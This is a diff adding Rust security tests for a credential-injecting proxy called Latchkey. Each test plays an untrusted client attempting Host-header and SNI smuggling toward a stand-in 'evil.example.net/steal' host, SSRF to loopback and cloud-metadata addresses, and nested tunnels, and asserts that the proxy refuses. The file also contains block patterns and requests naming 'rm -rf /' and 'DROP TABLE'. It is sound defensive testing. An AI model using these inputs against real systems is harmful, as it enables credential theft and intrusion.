@@ -1,0 +1,309 @@
+//! Attacks on SPEC section 3, written as an untrusted client would try them. Each test
+//! fails if its defence is removed.
+
+mod common;
+use common::raw::{exchange, request, tls, tunnel};
+use common::*;
+
+const CRED: &str = r#"
+[credentials.anthropic]
+header = "x-api-key"
+value = "${ANTHROPIC_API_KEY}"
+domains = ["api.anthropic.com"]
+"#;
+const SECRET: &str = "sk-ant-REAL-0123456789";
+
+fn start(extra: &str) -> (Upstream, Latchkey) {
+    let up = upstream(true, None);
+    let lk = Latchkey::start(Some(&up), &format!("{extra}{CRED}"), &[("ANTHROPIC_API_KEY", SECRET)]);
+    (up, lk)
+}
+
+fn status(resp: &str) -> u16 {
+    resp.split_whitespace().nth(1).and_then(|s| s.parse().ok()).unwrap_or(0)
+}
+
+#[test]
+fn host_header_inside_tunnel_must_name_the_tunnel_host() {
+    let (up, lk) = start("");
+    let (s, head) = tunnel(lk.port, "api.anthropic.com:443");
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    let resp = request(tls(s, "api.anthropic.com"), "GET /steal HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n");
+    assert_eq!(status(&resp), 421, "{resp}");
+    assert!(resp.contains("x-latchkey-error: misdirected"), "{resp}");
+    assert!(resp.contains("latchkey: "), "{resp}");
+    assert_eq!(up.count(), 0, "never forwarded");
+
+    // Same host, other port: also another destination.
+    let (s, _) = tunnel(lk.port, "api.anthropic.com:443");
+    let resp = request(tls(s, "api.anthropic.com"), "GET / HTTP/1.1\r\nHost: api.anthropic.com:8443\r\nConnection: close\r\n\r\n");
+    assert_eq!(status(&resp), 421, "{resp}");
+    // Case and trailing dot are the same host.
+    let (s, _) = tunnel(lk.port, "api.anthropic.com:443");
+    let resp = request(tls(s, "api.anthropic.com"), "GET / HTTP/1.1\r\nHost: API.Anthropic.COM.:443\r\nConnection: close\r\n\r\n");
+    assert_eq!(status(&resp), 200, "{resp}");
+    assert_eq!(up.requests()[0].header_all("x-api-key"), [SECRET]);
+    // Two Host headers: refused.
+    let (s, _) = tunnel(lk.port, "api.anthropic.com:443");
+    let resp = request(
+        tls(s, "api.anthropic.com"),
+        "GET / HTTP/1.1\r\nHost: api.anthropic.com\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n",
+    );
+    assert_eq!(status(&resp), 400, "{resp}");
+    assert_eq!(up.count(), 1);
+}
+
+#[test]
+fn absolute_form_inside_tunnel_cannot_redirect_the_credential() {
+    let (up, lk) = start("");
+    let (s, _) = tunnel(lk.port, "api.anthropic.com:443");
+    let resp = request(
+        tls(s, "api.anthropic.com"),
+        "GET https://evil.example.net/steal HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n",
+    );
+    assert_eq!(status(&resp), 421, "{resp}");
+    assert_eq!(up.count(), 0);
+}
+
+#[test]
+fn sni_naming_another_host_is_refused() {
+    let (up, lk) = start("");
+    let (s, _) = tunnel(lk.port, "api.anthropic.com:443");
+    let resp = request(tls(s, "evil.example.net"), "GET / HTTP/1.1\r\nHost: api.anthropic.com\r\nConnection: close\r\n\r\n");
+    assert_eq!(status(&resp), 421, "{resp}");
+    assert_eq!(up.count(), 0);
+}
+
+#[test]
+fn connect_inside_a_tunnel_is_refused() {
+    let (up, lk) = start("");
+    let (s, _) = tunnel(lk.port, "api.anthropic.com:443");
+    let resp = request(
+        tls(s, "api.anthropic.com"),
+        "CONNECT evil.example.net:443 HTTP/1.1\r\nHost: evil.example.net:443\r\nConnection: close\r\n\r\n",
+    );
+    assert_eq!(status(&resp), 400, "{resp}");
+    assert_eq!(up.count(), 0);
+}
+
+#[test]
+fn plain_http_in_a_tunnel_or_direct_never_carries_the_credential() {
+    let up = upstream(true, None);
+    let plain = upstream(false, None);
+    let lk = Latchkey::start_plain(&up, &plain, CRED, &[("ANTHROPIC_API_KEY", SECRET)]);
+    // Absolute-form plain HTTP to a credential host: 403 naming the credential.
+    let (code, body) = lk.curl(&["http://api.anthropic.com/v1/messages"]);
+    assert_eq!(code, 403, "{body}");
+    assert!(body.contains("credential anthropic") && body.contains("https"), "{body}");
+    // A CONNECT tunnel that does not start with TLS is plain HTTP to that destination.
+    let (s, head) = tunnel(lk.port, "api.anthropic.com:443");
+    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
+    let resp = request(s, "GET / HTTP/1.1\r\nHost: api.anthropic.com:443\r\nConnection: close\r\n\r\n");
+    assert_eq!(status(&resp), 403, "{resp}");
+    assert!(!resp.contains(SECRET));
+    assert_eq!(up.count() + plain.count(), 0);
+
+    // allow_http = true opts in.
+    let cfg = CRED.replace("domains", "allow_http = true\ndomains");
+    let lk = Latchkey::start_plain(&up, &plain, &cfg, &[("ANTHROPIC_API_KEY", SECRET)]);
+    let (code, body) = lk.curl(&["http://api.anthropic.com/v1/messages"]);
+    assert_eq!(code, 200, "{body}");
+    assert_eq!(echoed(&body, "x-api-key"), [SECRET]);
+    // Plain HTTP: a Host that differs from the absolute URI is refused.
+    let resp = exchange(
+        lk.port,
+        b"GET http://api.anthropic.com/ HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n",
+    );
+    assert_eq!(status(&resp), 421, "{resp}");
+}
+
+#[test]
+fn suffix_confusion_and_lookalikes_get_nothing() {
+    let up = upstream(true, None);
+    let cfg = r#"[proxy]
+intercept = "all"
+#END-PROXY
+[credentials.org]
+header = "x-key"
+value = "org-secret"
+domains = [".example.org"]
+"#;
+    let lk = Latchkey::start(Some(&up), cfg, &[]);
+    for host in ["evil-example.org", "example.org.evil.net"] {
+        let (code, body) = lk.curl(&[&format!("https://{host}/")]);
+        assert_eq!(code, 200, "{host}: {body}");
+        assert!(echoed(&body, "x-key").is_empty(), "{host} must not get the credential");
+    }
+    let (_, body) = lk.curl(&["https://A.B.EXAMPLE.ORG./"]);
+    assert_eq!(echoed(&body, "x-key"), ["org-secret"], "case and trailing dot normalise");
+}
+
+#[test]
+fn ssrf_targets_are_refused_before_any_tls() {
+    let (up, lk) = start("");
+    let targets = [
+        format!("127.0.0.1:{}", up.addr.port()),
+        format!("0x7f.0.0.1:{}", up.addr.port()),
+        format!("2130706433:{}", up.addr.port()),
+        format!("127.1:{}", up.addr.port()),
+        format!("[::ffff:127.0.0.1]:{}", up.addr.port()),
+        format!("[::1]:{}", up.addr.port()),
+        "169.254.169.254:80".to_string(),
+        "169.254.169.254:443".to_string(),
+        "[fd00:ec2::254]:80".to_string(),
+        "10.0.0.1:443".to_string(),
+        "localhost:443".to_string(),
+    ];
+    for t in &targets {
+        let (_, head) = tunnel(lk.port, t);
+        assert_eq!(status(&head), 403, "{t}: {head}");
+        assert!(head.contains("x-latchkey-error: ssrf"), "{t}: {head}");
+    }
+    let resp = exchange(lk.port, b"GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n");
+    assert_eq!(status(&resp), 403, "{resp}");
+    assert_eq!(up.count(), 0);
+}
+
+#[test]
+fn own_sockets_are_refused_even_when_private_is_allowed() {
+    let (_up, lk) = start("[proxy]\nallow_private = [\"127.0.0.0/8\"]\n#END-PROXY\n");
+    let (_, head) = tunnel(lk.port, &format!("127.0.0.1:{}", lk.port));
+    assert_eq!(status(&head), 403, "{head}");
+    assert!(head.contains("own socket"), "{head}");
+}
+
+#[test]
+fn redirects_are_returned_not_followed() {
+    let up = upstream(true, None);
+    let cfg = format!("[proxy]\nintercept = \"all\"\n#END-PROXY\n{CRED}");
+    let lk = Latchkey::start(Some(&up), &cfg, &[("ANTHROPIC_API_KEY", SECRET)]);
+    let (code, _) = lk.curl(&["https://api.anthropic.com/redirect?to=https://evil.example.net/steal"]);
+    assert_eq!(code, 302);
+    assert_eq!(up.count(), 1, "latchkey did not follow");
+    // The client follows; the next hop matches on its own and gets nothing.
+    let (code, body) = lk.curl(&["-L", "https://api.anthropic.com/redirect?to=https://evil.example.net/steal"]);
+    assert_eq!(code, 200);
+    assert_eq!(json(&body)["path"], "/steal");
+    assert!(echoed(&body, "x-api-key").is_empty());
+}
+
+#[test]
+fn filters_block_domains_allowlist_and_patterns() {
+    let up = upstream(true, None);
+    let cfg = format!(
+        r#"
+[proxy.filters]
+blocked_domains = ["*.example.net"]
+blocked_patterns = ["rm -rf /", "~DROP\\s+TABLE"]
+allowlist_only = true
+allowed_domains = ["api.anthropic.com", "other.example.com"]
+#END-PROXY
+{CRED}"#
+    );
+    let lk = Latchkey::start(Some(&up), &cfg, &[("ANTHROPIC_API_KEY", SECRET)]);
+    let (_, head) = tunnel(lk.port, "evil.example.net:443");
+    assert_eq!(status(&head), 403, "{head}");
+    assert!(head.contains("blocked-domain"));
+    let (_, head) = tunnel(lk.port, "evil.example.net:8443");
+    assert_eq!(status(&head), 403, "blocklists cover every port: {head}");
+    let (_, head) = tunnel(lk.port, "api.example.com:443");
+    assert!(head.contains("not-allowlisted"), "{head}");
+
+    let (code, body) = lk.curl(&["https://other.example.com/run?cmd=rm%20-rf%20/"]);
+    assert_eq!(code, 403, "percent-decoded request line: {body}");
+    let (code, _) = lk.curl(&["-H", "X-Q: DROP   TABLE users", "https://other.example.com/"]);
+    assert_eq!(code, 403);
+    // A pattern split across body chunks, far into a streamed upload.
+    let mut big = vec![b'a'; 300_000];
+    big.extend_from_slice(b"rm -rf /");
+    big.extend(vec![b'b'; 300_000]);
+    let file = lk.dir.path().join("upload.bin");
+    std::fs::write(&file, &big).unwrap();
+    let before = up.count();
+    let (code, body) = lk.curl(&["--data-binary", &format!("@{}", file.display()), "https://other.example.com/upload"]);
+    assert_eq!(code, 403, "{body}");
+    assert!(body.contains("blocked pattern"), "{body}");
+    assert_eq!(up.count(), before, "the upstream never got a complete request");
+    let (code, _) = lk.curl(&["--data", "harmless", "https://other.example.com/upload"]);
+    assert_eq!(code, 200);
+}
+
+#[test]
+fn malformed_targets_are_bad_requests() {
+    let (_up, lk) = start("");
+    for t in ["api.anthropic.com", "user@api.anthropic.com:443", "api..anthropic.com:443", "api.anthropic.com:0"] {
+        let (_, head) = tunnel(lk.port, t);
+        assert_eq!(status(&head), 400, "{t}: {head}");
+    }
+}
+
+#[test]
+fn clients_outside_allowed_clients_are_refused() {
+    let (up, lk) = start("[proxy]\nallowed_clients = [\"10.0.0.0/8\"]\n#END-PROXY\n");
+    let (_, head) = tunnel(lk.port, "api.anthropic.com:443");
+    assert_eq!(status(&head), 403, "{head}");
+    assert!(head.contains("client-not-allowed"));
+    assert_eq!(up.count(), 0);
+}
+
+#[test]
+fn oversized_heads_get_431() {
+    let (_up, lk) = start("");
+    let mut req = String::from("GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n");
+    for i in 0..200 {
+        req.push_str(&format!("x-h{i}: v\r\n"));
+    }
+    req.push_str("\r\n");
+    let resp = exchange(lk.port, req.as_bytes());
+    assert_eq!(status(&resp), 431, "{resp}");
+    let big = format!("GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nx-big: {}\r\n\r\n", "a".repeat(70_000));
+    let resp = exchange(lk.port, big.as_bytes());
+    assert_eq!(status(&resp), 431, "{resp}");
+}
+
+#[test]
+fn secrets_never_reach_logs_or_cli_output() {
+    let up = upstream(true, None);
+    let log = tempfile::tempdir().unwrap();
+    let log_file = log.path().join("requests.log");
+    let cfg = format!(
+        "[proxy.logging]\nlog_requests = true\nlog_file = \"{}\"\n#END-PROXY\n{CRED}",
+        log_file.display()
+    );
+    let lk = Latchkey::start(Some(&up), &cfg, &[("ANTHROPIC_API_KEY", SECRET)]);
+    lk.curl(&["https://api.anthropic.com/v1/messages?key=query-secret"]);
+    lk.curl(&["http://api.anthropic.com/v1/plain"]);
+    let (_, head) = tunnel(lk.port, "169.254.169.254:80");
+    assert_eq!(status(&head), 403);
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    let audit = std::fs::read_to_string(&log_file).unwrap();
+    let lines: Vec<serde_json::Value> = audit.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(lines.len(), 3, "{audit}");
+    assert_eq!(lines[0]["decision"], "injected");
+    assert_eq!(lines[0]["credential"], "anthropic");
+    assert_eq!(lines[0]["path"], "/v1/messages", "no query string");
+    assert_eq!(lines[1]["decision"], "blocked");
+    assert_eq!(lines[1]["status"], 403);
+    assert_eq!(lines[2]["method"], "CONNECT");
+    for key in ["ts", "client", "agent", "method", "scheme", "host", "port", "path", "status", "decision", "reason", "credential", "bytes_up", "bytes_down", "duration_ms"] {
+        assert!(lines[0].get(key).is_some(), "audit key {key} missing");
+    }
+    let b64 = {
+        use base64::Engine;
+        base64::engine::general_purpose::STANDARD.encode(SECRET)
+    };
+    let explain = lk.cli(&["explain", "https://api.anthropic.com/v1/messages"], &[("ANTHROPIC_API_KEY", SECRET)]);
+    let check = lk.cli(&["check"], &[("ANTHROPIC_API_KEY", SECRET)]);
+    let env = lk.cli(&["env"], &[("ANTHROPIC_API_KEY", SECRET)]);
+    let outputs = [
+        audit,
+        lk.stderr(),
+        String::from_utf8_lossy(&explain.stdout).into_owned(),
+        String::from_utf8_lossy(&check.stdout).into_owned(),
+        String::from_utf8_lossy(&env.stdout).into_owned(),
+    ];
+    assert!(String::from_utf8_lossy(&explain.stdout).contains("anthropic"));
+    for (i, o) in outputs.iter().enumerate() {
+        assert!(!o.contains(SECRET) && !o.contains(&b64) && !o.contains("query-secret"), "output {i} leaks: {o}");
+    }
+}
